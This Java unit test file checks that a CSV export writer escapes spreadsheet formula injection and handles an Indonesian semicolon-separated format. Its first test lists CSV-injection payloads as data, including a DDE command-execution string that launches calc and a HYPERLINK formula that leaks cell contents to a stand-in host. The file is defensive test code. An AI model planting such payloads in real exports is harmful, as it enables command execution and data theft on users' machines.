package id.go.kinerja.platform.export;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvWriterTest {

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://x\"&A1,\"y\")", "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\"=1+1", "'=1+1", " \"@SUM(A1)",
            "\uFF1D1+1", "-", "+", "=", "@"})
    void textThatASpreadsheetWouldRunGetsALeadingApostropheAndReadsBackAsTyped(String typed) throws IOException {
        String cell = written(typed);

        assertEquals("'" + typed, cell);
        assertEquals(typed, SpreadsheetFormulas.restore(cell));
    }

    @ParameterizedTest
    @ValueSource(strings = {"Persentase pasar rakyat", "IKP-01", "85", "70..80", "BB", "-2.5", "-1234,5", "0",
            "Rp 1.000", "catatan: -2 dari target", "'kutipan biasa", ""})
    void ordinaryTextAndPlainNumbersAreWrittenAsTheyAre(String typed) throws IOException {
        assertEquals(typed, written(typed));
        assertEquals(typed, SpreadsheetFormulas.restore(typed));
    }

    @Test
    void numbersStayNumbersNegativeOnesToo() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        CsvWriter.commaSeparated(out).row(new BigDecimal("-2.50"), -7, new BigDecimal("1E+3"), null).flush();

        assertEquals("-2.50,-7,1000,\r\n", out.toString(StandardCharsets.UTF_8));
    }

    @Test
    void theIndonesianFlavourIsSemicolonSeparatedWithAByteOrderMark() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        CsvWriter.forIndonesianSpreadsheets(out).row("Capaian", "87,5", "a;b").emptyLine().row("=1").flush();

        assertEquals("\uFEFFCapaian;87,5;\"a;b\"\r\n\r\n'=1\r\n", out.toString(StandardCharsets.UTF_8));
    }

    @Test
    void anApostropheThatTheWriterDidNotAddStays() {
        assertEquals("'hello", SpreadsheetFormulas.restore("'hello"));
        assertEquals("'-2.5", SpreadsheetFormulas.restore("'-2.5"));
        assertEquals("'", SpreadsheetFormulas.restore("'"));
        assertFalse(SpreadsheetFormulas.wouldEvaluate("-2.5"));
        assertTrue(SpreadsheetFormulas.wouldEvaluate("-2.5+1"));
    }

    /** Written as the only cell of a file, then parsed back as a spreadsheet's CSV reader splits it. */
    private static String written(String text) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        CsvWriter.commaSeparated(out).row(text, "x").flush();
        List<CSVRecord> records = CSVFormat.RFC4180.parse(new StringReader(out.toString(StandardCharsets.UTF_8)))
                .getRecords();
        assertEquals(1, records.size());
        return records.get(0).get(0);
    }
}
